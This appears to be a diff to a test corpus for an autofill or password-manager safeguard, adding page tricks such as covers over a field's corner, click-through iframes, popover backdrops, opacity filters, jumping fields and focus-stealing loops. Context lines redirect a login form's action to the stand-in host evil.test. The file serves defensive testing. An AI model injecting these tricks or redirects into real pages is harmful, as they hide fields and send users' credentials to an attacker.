@@ -73,6 +73,38 @@ export const corpus = {
     cover.style.cssText = `position:fixed;z-index:99999;background:#fff;left:${left + width / 2 - 5}px;top:${top}px;width:10px;height:${height}px`;
     document.body.append(cover);
   },
+  'a cover over a corner': (field) => {
+    const { right, top, width, height } = document.querySelector(field).getBoundingClientRect();
+    const cover = document.createElement('div');
+    cover.style.cssText = `position:fixed;z-index:99999;background:#fff;left:${right - width * 0.45}px;top:${top}px;width:${width * 0.45}px;height:${height * 0.45}px`;
+    document.body.append(cover);
+  },
+  'a frame that lets clicks through, beside the body': () => {
+    const cover = document.createElement('iframe');
+    cover.style.cssText = 'position:fixed;inset:0;width:100%;height:100%;border:0;z-index:99999;pointer-events:none';
+    document.documentElement.append(cover);
+  },
+  'what a popover lays behind itself': () => {
+    const sheet = new CSSStyleSheet();
+    sheet.replaceSync('#veil::backdrop { background: #fff }');
+    document.adoptedStyleSheets = [sheet];
+    const small = Object.assign(document.createElement('div'), { id: 'veil', popover: 'manual' });
+    small.style.cssText = 'width:1px;height:1px;border:0;padding:0;margin:0';
+    document.body.append(small);
+    small.showPopover();
+  },
+  'a filter that takes the colour away': () => { document.querySelector('form').style.filter = 'opacity(0.05)'; },
+  'a mask': () => { document.body.style.maskImage = 'linear-gradient(transparent, transparent)'; },
+  'a field like a speck': (field) => { document.querySelector(field).style.cssText = 'width:5px;height:5px;padding:0;border:0'; },
+  'a field that jumps': (field) => {
+    const box = document.querySelector(field);
+    box.style.position = 'relative';
+    setInterval(() => { box.style.left = box.style.left === '9px' ? '0px' : '9px'; }, 60);
+  },
+  'a focus that wanders': (field) => {
+    const [box, thief] = [field, '#idSIButton9'].map((one) => document.querySelector(one));
+    setInterval(() => (document.activeElement === thief ? box : thief).focus(), 40);
+  },
   'a second field': (field) => { document.querySelector('form').append(document.querySelector(field).cloneNode()); },
   'a form that posts elsewhere': () => { document.querySelector('form').setAttribute('action', 'https://evil.test/'); },
   'a button that posts elsewhere': () => { document.querySelector('#idSIButton9').setAttribute('formaction', 'https://evil.test/'); },
@@ -103,5 +135,6 @@ export const concerns = (view, name) => view !== 'username' || name !== 'another
 // These are looked for at the moment of filling alone: looking for them on every change of the page would cost too much.
 export const late = new Set([
   'a popover that lets clicks through', 'a picture that lets clicks through', 'a cover over a part', 'a field that runs away',
-  'a page that takes the focus away', 'a loop of focus',
+  'a page that takes the focus away', 'a loop of focus', 'a cover over a corner', 'a frame that lets clicks through, beside the body',
+  'a field that jumps', 'a focus that wanders',
 ]);
